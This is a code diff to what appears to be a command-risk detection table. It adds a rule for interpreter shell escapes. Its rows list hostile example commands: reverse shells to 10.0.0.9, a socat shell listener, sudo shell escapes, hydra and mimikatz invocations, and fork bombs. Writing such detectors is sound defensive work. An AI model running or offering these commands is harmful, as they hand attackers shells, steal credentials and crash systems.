@@ -17,6 +17,7 @@ export const networkAndCodeRows = [
   row('run.beyond', 'execute', 'code/beyond', '', 'high', 'Holds more commands, or deeper ones, than are followed; something may hide in it.', [], ['ls']),
   row('run.remote-shell', 'execute listen connect', 'code/shell', '', 'critical', 'Gives somebody else a shell on this machine ({target}).', ['bash -i >& /dev/tcp/10.0.0.9/4444 0>&1', 'nc -e /bin/sh 10.0.0.9 4444', 'socat TCP-LISTEN:9 EXEC:/bin/sh'], ['nc -z localhost 5432']),
   row('run.escape', 'execute', 'code/escape', '', 'medium', 'Makes {target} start a shell.', ["vim -c ':!sh'", 'find . -exec /bin/sh \\;', "awk 'BEGIN {system(\"/bin/sh\")}'"], ['vim notes.md']),
+  row('run.escape-program', 'execute', 'code/escape', 'interactive', 'high', 'Starts a shell from within a program ({target}).', [`python3 -c 'import os; os.system("/bin/sh")'`, `perl -e 'exec "/bin/bash";'`, `php -r 'passthru("/bin/sh -i");'`], [`python3 -c 'print("/usr/bin/env")'`]),
   row('run.escape-elevated', 'execute', 'code/escape', 'elevated', 'high', 'Makes {target} start a shell as administrator.', ["sudo vim -c ':!sh'", 'sudo find . -exec /bin/sh \\;'], []),
   row('run.attack-tool', 'execute', 'code/attack', '', 'high', 'Runs {target}, a tool made for attacks.', ['hydra -l root -P words.txt ssh://10.0.0.9', 'mimikatz sekurlsa::logonpasswords'], []),
   row('run.bomb', 'execute', 'code/bomb', '', 'critical', 'Starts copies of itself without end until the machine stops answering.', [':(){ :|:& };:', '%0|%0', 'while true; do $0 & done'], ['f() { ls; }; f']),
